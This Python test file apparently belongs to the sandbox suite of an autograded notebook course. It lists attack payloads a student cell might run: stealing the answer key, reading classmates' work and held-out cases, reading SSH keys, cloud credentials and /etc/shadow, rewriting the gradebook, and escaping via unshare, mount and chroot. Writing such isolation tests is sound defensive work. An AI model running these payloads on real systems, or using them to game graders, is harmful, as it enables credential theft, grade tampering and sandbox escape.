"""What a cell may not read: criteria, held-out cases, classmates, home, environment, gradebook, the memory it came from."""

# ruff: noqa: E501 - code and markup of attacks are data: wrapped, they would be others

from tests.attacks.attack import Attack, on_prompt

# As the answer to the third group: whoever finds the key has 10 points more.
_FROM_KEY = """
group_c = {}
CARDS = ("11", "12", "13", "14", "15")
def use(key):
    global group_c
    group_c = {card: {"decision": key[card][0][0], "basis": key[card][1]} for card in CARDS}
    print("ESC" + "APED", "key", key)
def use_text(text):
    import re
    found = dict(re.findall(r'^\\s*"(\\d\\d)": (\\(\\[.*?\\], "[^"]*"\\))', text, re.M))
    use({card: eval(value) for card, value in found.items()})
"""
_IMPORT = """
try:
    from graders.exercises.choose_licence import KEY
    use(KEY)
except Exception as error:
    print(type(error).__name__)
"""
_BY_PATH = """
import importlib.util, os, sys
from pathlib import Path
import labkit
roots = [Path(labkit.__file__).parents[1], Path("@REPO@"), Path.cwd(), *map(Path, sys.path), *Path.cwd().parents]
for root in roots:
    try:
        use_text((root / "graders/exercises/choose_licence.py").read_text("utf-8"))
        break
    except (OSError, KeyError):
        continue
"""
_BY_WALK = """
import os
for top in ("/proc/1/root@REPO@", "/proc/self/root@REPO@", "/opt", "/usr/lib/python3", "/tmp", "/home"):
    for folder, _, files in os.walk(top):
        if "choose_licence.py" in files:
            try:
                use_text(open(os.path.join(folder, "choose_licence.py"), encoding="utf-8").read())
            except (OSError, KeyError):
                pass
"""
_ENTRY_POINT = """
from importlib.metadata import entry_points
for point in entry_points(group="labkit.grader"):
    try:
        score = point.load()
        print("ESC" + "APED", "grader", score)
        use(__import__("graders.exercises.choose_licence", fromlist=["KEY"]).KEY)
    except Exception as error:
        print(type(error).__name__)
"""
_COMPILED = """
import glob, marshal, os
import labkit
root = os.path.dirname(os.path.dirname(labkit.__file__))
for file in glob.glob(root + "/graders/**/__pycache__/choose_licence*.pyc", recursive=True):
    names = {"__name__": "stolen"}
    exec(marshal.loads(open(file, "rb").read()[16:]), names)
    use(names["KEY"])
"""
_MEMORY_OF_PYTHON = """
import gc, sys
for thing in gc.get_objects():
    if type(thing) is dict and "11" in thing and type(thing.get("11")) is tuple:
        use(thing)
        break
for name, module in list(sys.modules.items()):
    if name.split(".")[0] in ("graders", "nbgrader"):
        print("ESC" + "APED", name)
"""
_MEMORY_OF_PROCESS = """
import re
# Backwards, or it would find itself.
needles = [text[::-1].encode() for text in ("etis-noitcurtsnoc a fo etagliaT", "rof moor evael secruos eht erehW")]
for line in open("/proc/self/maps"):
    span, mode = line.split()[:2]
    low, high = (int(x, 16) for x in span.split("-"))
    if "r" not in mode or "[v" in line or high - low > 300_000_000:
        continue
    try:
        with open("/proc/self/mem", "rb", 0) as memory:
            memory.seek(low)
            data = memory.read(high - low)
    except (OSError, OverflowError, ValueError):
        continue
    for needle in needles:
        for found in re.finditer(re.escape(needle) + rb"[ -~]{12}", data):
            escaped("memory", found[0])
"""
_SOLUTIONS = """
import glob, json
for pattern in ("@COURSE@/solutions/*/*.ipynb", "@COURSE@/source/*/*.ipynb", "@COURSE@/submitted/*/*/*.ipynb",
                "@COURSE@/intake/*/*/*.ipynb", "@COURSE@/autograded/*/*/*.ipynb", "../../../*/*/*.ipynb", "../*/*.ipynb",
                "../../*/*/*.ipynb", "/tmp/*/*.ipynb", "/tmp/*/*/*.ipynb"):
    for file in glob.glob(pattern):
        try:
            text = open(file, encoding="utf-8").read()
        except OSError:
            continue
        if "classmate-" in text:
            print(text[text.index("classmate-"):][:40])
        for cell in json.loads(text)["cells"]:
            source = "".join(cell["source"])
            if cell.get("id") == "cards-c-answer" and "AI-CHECK" in source:
                exec(source)
                print("ESC" + "APED", file)
"""
_HOME = """
import os, pwd
from pathlib import Path
homes = {os.path.expanduser("~"), "@HOME@", "/root", *(user.pw_dir for user in pwd.getpwall()), *map(str, Path("/home").glob("*"))}
for home in homes:
    for name in (".ssh/id_ed25519", ".netrc", ".aws/credentials", ".bash_history", ".config/pip/pip.conf"):
        try:
            print(Path(home, name).read_text())
            escaped("read", home, name)
        except (OSError, UnicodeDecodeError):
            pass
for file in ("/etc/shadow", "/etc/sudoers", "/var/run/docker.sock", "/run/secrets/kubernetes.io/serviceaccount/token"):
    try:
        open(file, "rb").read(10)
        escaped("read", file)
    except OSError:
        pass
"""
_ENVIRONMENT = """
import glob, os, subprocess
print(dict(os.environ))
for file in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ"]:
    try:
        print(open(file, "rb").read().replace(b"\\0", b" "))
    except OSError:
        pass
for file in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(file, "rb").read()
    except OSError:
        continue
    if b"pytest" in text or b"nbgrader" in text:
        escaped("sees", text)
"""
_GRADEBOOK = """
import glob, os, sqlite3
for file in ["@COURSE@/gradebook.db", *glob.glob("../**/gradebook.db", recursive=True), *glob.glob("/tmp/**/gradebook.db", recursive=True)]:
    if not os.path.exists(file):
        continue
    try:
        book = sqlite3.connect(file, timeout=1)
        print(book.execute("SELECT id, first_name FROM student").fetchall())
        book.execute("UPDATE grade SET auto_score = 10, manual_score = 10, needs_manual_grade = 0")
        book.execute("UPDATE base_cell SET max_score = 1000")
        book.commit()
        escaped("gradebook", file)
    except sqlite3.Error as error:
        print(type(error).__name__)
"""
_RECORDS = """
from pathlib import Path
targets = ("scores/choose_licence/read-records.jsonl", "scores/choose_licence/zz-honest.jsonl", "nbgrader_config.py",
           "submitted/zz-honest/choose_licence/choose_licence.ipynb", "intake/zz-honest/choose_licence/choose_licence.ipynb",
           "source/choose_licence/choose_licence.ipynb", "new-file")
for target in targets:
    file = Path("@COURSE@", target)
    try:
        file.open("a").write("\\n")
        escaped("wrote", file)
    except OSError:
        continue
"""
_OUTSIDE = """
import os, tempfile
for folder in ("@OUTSIDE@", "@HOME@", "@HOME@/.ipython/profile_default/startup", "@REPO@/labkit", os.path.dirname(labkit.__file__)):
    try:
        os.makedirs(folder, exist_ok=True)
        open(folder + "/left-@MARK@", "w").write("x")
    except OSError:
        pass
"""
_FDS = """
import os, stat
for name in range(3, 256):  # not by /proc: that may be closed
    fd = int(name)
    try:
        mode, target = os.fstat(fd).st_mode, os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    print(fd, target)
    if stat.S_ISDIR(mode):
        for path in ("graders", "..", "../..", "../../../.."):
            try:
                print(os.listdir(os.open(path, os.O_RDONLY, dir_fd=fd))[:50])
                os.open(path + "@COURSE@/gradebook.db", os.O_RDONLY, dir_fd=fd)
                escaped("through", target)
            except OSError:
                pass
    if stat.S_ISREG(mode) and fd > 2 and (".db" in target or "heldout" in target or ".jsonl" in target):
        escaped("open file", target)
"""
_NAMESPACES = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def look():
    for path in ("@HOME@/.ssh/id_ed25519", "/proc/1/root@HOME@/.ssh/id_ed25519", "/mnt@HOME@/.ssh/id_ed25519"):
        try:
            print(open(path).read())
            escaped("read", path)
        except OSError:
            pass
child = os.fork()
if not child:
    try:
        libc.unshare(0x10000000 | 0x00020000)
        libc.mount(b"proc", b"/proc", b"proc", 0, None)
        libc.mount(b"/dev/sda1", b"/mnt", b"ext4", 0, None)
        libc.umount2(b"/tmp", 2); libc.umount2(os.getcwd().encode(), 2)
        os.mknod("disk", 0o60600, os.makedev(8, 0))
        look()
        os.chroot("."); os.chdir("../../../../../.."); os.chroot(".")
        look()
        for pid in range(1, 200):
            for kind in ("mnt", "user", "net"):
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                libc.setns(fd, 0)
        look()
    except BaseException as error:
        print(type(error).__name__)
    finally:
        os._exit(0)
os.waitpid(child, 0)
look()
"""
_PRACTICE_DATA = """
import labkit, labkit.data
from pathlib import Path
root = Path(labkit.data.open("complaints").path).parents
for folder in list(root)[:4]:
    for file in folder.rglob("*.jsonl"):
        text = file.read_text("utf-8", errors="replace")
        if "h00" + "1" in text:
            print("ESC" + "APED", file, text[:500])
prompt = "다음 민원을 분류해 줘. {document}"
"""
_HELDOUT = """
prompt = "다음 민원을 분류해 줘. {document}"
try:
    from graders.heldout import complaints
    cases = complaints()
    print("ESC" + "APED", cases)
    prompt = "\\n".join(f"{c}" for c in cases)[:40_000] + "\\n{document}"
except Exception as error:
    print(type(error).__name__)
"""


def _steal(name: str, aim: str, code: str) -> Attack:
    return Attack(name, aim, answers={"cards-c": _FROM_KEY + code}, box=True)


FAMILY = [
    _steal("read-key-import", "imports the key and answers by it", _IMPORT),
    _steal("read-key-path", "looks for the key's file beside the lab, on the path, in the repository", _BY_PATH),
    _steal("read-key-walk", "searches the disk for it", _BY_WALK),
    _steal("read-entry-point", "asks the installed lab for its grader", _ENTRY_POINT),
    _steal("read-compiled", "executes the compiled key", _COMPILED),
    _steal("read-python-memory", "searches the interpreter's objects for the key", _MEMORY_OF_PYTHON),
    Attack("read-process-memory", "searches its memory for criteria and held-out texts", _MEMORY_OF_PROCESS, box=True),
    Attack("read-classmates", "looks for others' answers and the model's", answers={"cards-c": "group_c = {}\n" + _SOLUTIONS},
           box=True),
    Attack("read-home", "keys and histories of homes, system secrets", _HOME, box=True),
    Attack("read-environment", "the environment of every process, command lines", _ENVIRONMENT, box=True),
    Attack("read-gradebook", "opens the gradebook and gives everybody full marks", _GRADEBOOK, box=True),
    Attack("read-records", "writes score records, sources, others' submissions", _RECORDS, box=True),
    Attack("read-outside", "writes into other folders, start-up scripts and the lab itself", _OUTSIDE, box=True),
    Attack("read-open-files", "what the process has inherited open", _FDS, box=True),
    Attack("read-namespaces", "unshare, mount, chroot, setns", _NAMESPACES, box=True),
    on_prompt("read-heldout", "shows the held-out complaints to the model", _HELDOUT, box=True),
    on_prompt("read-data-folder", "looks for held-out cases beside the data", _PRACTICE_DATA, box=True),
]  # fmt: skip
